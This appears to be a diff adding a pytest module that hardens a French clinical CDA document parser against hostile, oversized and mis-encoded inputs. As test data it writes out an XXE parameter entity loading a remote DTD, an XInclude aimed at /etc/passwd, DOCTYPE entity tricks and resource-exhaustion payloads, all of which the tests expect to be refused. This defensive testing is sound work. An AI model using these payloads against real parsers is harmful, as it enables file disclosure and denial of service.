@@ -1,0 +1,200 @@
+"""CDA R2, round 20: hostile, huge and odd documents, against issue 4's checklist.
+
+Found wrong and fixed here: a UTF-32 CDA (which the parser reads) was 'binary content' of no
+known format; a UTF-8 document whose declaration says ISO-8859-1 was filed without a word,
+every accented letter as two ('CholestÃ©rol'); a million small sibling elements under the
+size limit (24 MB) cost a worker 1 GB; a SOAP envelope and an IHE XDM package (the DMP's
+media exchange) were refused in words that did not say what they were. Checked right and
+kept so: external parameter entities, internal-subset DOCTYPEs, XInclude (never resolved),
+rebound prefixes, dedupe level 4 across units' case, precisions and zones, RPLC chains in any
+order of arrival."""
+
+from __future__ import annotations
+
+import codecs
+import io
+import zipfile
+
+import pytest
+from sqlalchemy import select
+
+from dossiers.schema import entries
+from normalizers.cda import normalize_cda
+from parsers.cda import CdaParseError, parse_cda
+from parsers.detect import detect_format, unknown_reason
+from tests.conftest import SAMPLES
+from tests.test_dedup_channels import cholesterol, cr_bio, file, links, oru
+
+CRBIO = (SAMPLES / "cda" / "01_crbio_labm_lipides_glycemie.xml").read_bytes()
+BODY = CRBIO.decode("utf-8").split("?>", 1)[1].lstrip()  # without its XML declaration
+RENAL_V1 = (SAMPLES / "cda" / "02_crbio_synlab_bilan_renal_v1.xml").read_text("utf-8")
+RENAL_V2 = (SAMPLES / "cda" / "03_crbio_synlab_bilan_renal_v2_rplc.xml").read_text("utf-8")
+
+
+def _results(data: bytes) -> list[tuple]:
+    doc = parse_cda(data)
+    return sorted((e.code, e.value, e.unit) for e in normalize_cda(doc, data, "t").entries
+                  if e.type == "lab_result")
+
+
+# -- character encodings ------------------------------------------------------------------------
+@pytest.mark.parametrize("codec", ["utf-32", "utf-32-le", "utf-32-be"])
+def test_a_utf32_cda_is_detected_as_the_cda_it_is(codec: str) -> None:
+    """XML 1.0 appendix F: UTF-32 with or without its BOM. The parser read it; format
+    detection called it 'binary content that is neither HL7v2, CDA nor PDF'."""
+    data = ('<?xml version="1.0" encoding="UTF-32"?>\n' + BODY).encode(codec)
+    assert detect_format(data) == "cda"
+    assert _results(data) == _results(CRBIO)
+
+
+def test_utf8_bytes_under_an_iso_8859_1_declaration_are_read_as_utf8() -> None:
+    """The declaration kept from an old template says ISO-8859-1, the engine writes UTF-8:
+    read under the label, 'Cholestérol total' became 'CholestÃ©rol total' and the patient
+    'JÃ©rÃ´me', filed without a warning. Valid UTF-8 sequences are no one-byte French text."""
+    data = CRBIO.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"', 1)
+    assert data != CRBIO
+    doc = parse_cda(data)
+    assert [w.code for w in doc.warnings] == ["CDA_ENCODING_MISMATCH"]
+    assert "ISO-8859-1" in doc.warnings[0].message and "Jérôme" not in doc.warnings[0].message
+    assert doc.header.title == parse_cda(CRBIO).header.title
+    names = {e.display for e in normalize_cda(doc, data, "t").entries if e.display}
+    assert "Cholestérol total" in names and not any("Ã" in n for n in names)
+    # what the label says stays true of real ISO-8859-15 and windows-1252 bytes
+    for label, codec in (("ISO-8859-15", "iso8859-15"), ("windows-1252", "cp1252")):
+        real = ('<?xml version="1.0" encoding="' + label + '"?>\n' + BODY).encode(codec)
+        doc = parse_cda(real)
+        assert doc.warnings == [] and doc.header.title == parse_cda(CRBIO).header.title
+
+
+def test_iso_8859_1_bytes_under_a_utf8_declaration_stay_refused() -> None:
+    data = ('<?xml version="1.0" encoding="UTF-8"?>\n' + BODY).encode("latin-1", "replace")
+    with pytest.raises(CdaParseError) as err:
+        parse_cda(data)
+    assert err.value.code == "CDA_NOT_XML" and "character encoding" in err.value.message
+
+
+# -- size --------------------------------------------------------------------------------------
+def test_a_million_sibling_elements_under_the_size_limit_are_refused() -> None:
+    """24 MB of '<templateId root="1.2.3"/>' was under the 50 MB limit and cost 1 GB and 7 s
+    to read; more than 200,000 elements are refused before any tree is built."""
+    data = CRBIO.replace(b"<title>", b"<title>" + b"<br/>" * 200_001, 1)
+    with pytest.raises(CdaParseError) as err:
+        parse_cda(data)
+    assert (err.value.code, err.value.location) == ("CDA_TOO_MANY_ELEMENTS", "/ClinicalDocument")
+    assert "200000" in err.value.message
+
+
+def test_the_element_estimate_is_checked_before_refusing() -> None:
+    """'<' inside CDATA and comments counts in the byte estimate, not in the document."""
+    cdata = CRBIO.replace(b"</title>", b"<![CDATA[" + b"<" * 500 + b"]]></title>", 1)
+    assert len(parse_cda(cdata, max_elements=1000).sections) == \
+        len(parse_cda(CRBIO).sections)
+    with pytest.raises(CdaParseError) as err:
+        parse_cda(CRBIO, max_elements=100)
+    assert err.value.code == "CDA_TOO_MANY_ELEMENTS"
+
+
+# -- wrappers ----------------------------------------------------------------------------------
+SOAP = ('<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope '
+        'xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
+        + BODY + "</soap:Body></soap:Envelope>").encode()
+
+
+def _xdm() -> bytes:
+    """An IHE XDM package as the DMP's media exchange writes it (ITI TF-3 4.2.1.1)."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("README.TXT", "Dossier exporté")
+        z.writestr("INDEX.HTM", "<html/>")
+        z.writestr("IHE_XDM/SUBSET01/METADATA.XML", "<SubmitObjectsRequest/>")
+        z.writestr("IHE_XDM/SUBSET01/DOC0001.XML", CRBIO)
+    return buf.getvalue()
+
+
+def test_a_soap_envelope_and_an_xdm_package_say_what_they_are() -> None:
+    """Both were refused, neither said so: 'root element is Envelope' and 'a ZIP archive'."""
+    with pytest.raises(CdaParseError) as err:
+        parse_cda(SOAP)
+    assert (err.value.code, err.value.location) == ("CDA_NOT_CDA", "/Envelope")
+    assert err.value.message.startswith("a SOAP envelope")
+    code, text, where = unknown_reason(_xdm())
+    assert (code, where) == ("XDM_NOT_UNPACKED", "IHE_XDM/") and "XDM" in text
+
+
+# -- the pipeline: each hostile input its code, the next one filed ------------------------------
+def test_hostile_documents_each_fail_with_their_code_and_the_next_is_filed(sqlite_ctx) -> None:  # noqa: ANN001
+    text = CRBIO.decode()
+    head = '<?xml version="1.0"?>\n'
+    hostile = {
+        "parameter entity": (head + '<!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM '
+                             '"http://203.0.113.9/x.dtd"> %p;]>\n' + BODY).encode(),
+        "internal subset": (head + "<!DOCTYPE ClinicalDocument [<!ELEMENT title ANY>]>\n"
+                            + BODY).encode(),
+        "utf-16 doctype": (head + '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>' + BODY)
+        .encode("utf-16"),
+        "huge attribute": text.replace("<title>", '<title lang="' + "A" * 11_000_000 + '">',
+                                       1).encode(),
+        "siblings": text.replace("<title>", "<title>" + "<br/>" * 200_001, 1).encode(),
+        "soap": SOAP,
+        "xdm": _xdm(),
+    }
+    codes = {"parameter entity": "CDA_DTD_FORBIDDEN", "internal subset": "CDA_DTD_FORBIDDEN",
+             "utf-16 doctype": "CDA_DTD_FORBIDDEN", "huge attribute": "CDA_TOO_LARGE",
+             "siblings": "CDA_TOO_MANY_ELEMENTS", "soap": "CDA_NOT_CDA",
+             "xdm": "XDM_NOT_UNPACKED"}
+    for name, data in hostile.items():
+        row = file(sqlite_ctx, data, "chu")
+        assert (row.status, row.error_code) == ("failed", codes[name]), name
+        assert "Jérôme" not in (row.error_message or "")
+    xinclude = text.replace("<title>", '<title><xi:include xmlns:xi="http://www.w3.org/2001/'
+                            'XInclude" href="file:///etc/passwd" parse="text"/>', 1)
+    row = file(sqlite_ctx, xinclude.encode(), "chu")  # never resolved: read as it stands
+    assert row.status == "deposited"
+    utf32 = file(sqlite_ctx, codecs.BOM_UTF32_LE + "\n".encode("utf-32-le")
+                 + CRBIO.decode().encode("utf-32-le"), "chu")
+    # the same document id in other bytes: compared with what the first filed, nothing twice
+    assert utf32.status == "deposited" and any("another form" in w for w in utf32.warnings)
+    assert len(cholesterol(sqlite_ctx)) == 1
+    with sqlite_ctx.engine.connect() as conn:
+        values = conn.execute(select(entries.c.value, entries.c.details)).all()
+    assert not any("root:" in str(v) for v in values)
+
+
+# -- dedupe level 4 and versions: checked right -------------------------------------------------
+@pytest.mark.parametrize(("lab", "hospital", "cda_first"), [
+    ({"value": "4.75", "unit": "mmol/L"}, {"value": "4.75", "unit": "mmol/l"}, False),
+    ({"obx14": "202502031007+0100"}, {"when": "20250203090700Z"}, True),
+    ({"value": "5"}, {"value": "5.0", "when": "20250203100700.000+0100"}, True),
+])
+def test_the_same_result_through_both_channels_is_one_entry(sqlite_ctx, lab: dict,  # noqa: ANN001
+                                                           hospital: dict,
+                                                           cda_first: bool) -> None:
+    first, second = (cr_bio(**hospital), "chu"), (oru(**lab), "LABM")
+    if not cda_first:
+        first, second = second, first
+    a, b = file(sqlite_ctx, *first), file(sqlite_ctx, *second)
+    (entry,) = cholesterol(sqlite_ctx)
+    assert links(sqlite_ctx, entry.id) == [(a.id, "created"), (b.id, "confirmed")]
+
+
+def _v3() -> bytes:
+    """The third version of the renal panel: potassium 4.5, replacing the second."""
+    return (RENAL_V2.replace('extension="SB25061039530-2"', 'extension="SB25061039530-3"')
+            .replace('<versionNumber value="2"/>', '<versionNumber value="3"/>')
+            .replace('extension="SB25061039530-1"', 'extension="SB25061039530-2"')
+            .replace('value="4.7" unit="mmol/L"', 'value="4.5" unit="mmol/L"')).encode()
+
+
+@pytest.mark.parametrize("order", [(1, 3, 2), (3, 2, 1)])
+def test_an_rplc_chain_in_any_order_keeps_the_last_version_current(sqlite_ctx, order) -> None:  # noqa: ANN001
+    file(sqlite_ctx, oru(control="OTHER"), "LABM")  # the dossiers and mappings
+    versions = {1: RENAL_V1.encode(), 2: RENAL_V2.encode(), 3: _v3()}
+    for n in order:
+        assert file(sqlite_ctx, versions[n], "synlab").status == "deposited"
+    with sqlite_ctx.engine.connect() as conn:
+        current = conn.execute(select(entries.c.key).where(
+            entries.c.type == "document", entries.c.current)).scalars().all()
+        potassium = sorted(conn.execute(select(entries.c.value, entries.c.current).where(
+            entries.c.code == "2823-3")).all())
+    assert current == ["document|2.999.250.1.2.10^SB25061039530-3"]
+    assert potassium == [("4.5", True), ("4.7", False), ("6.4", False)]
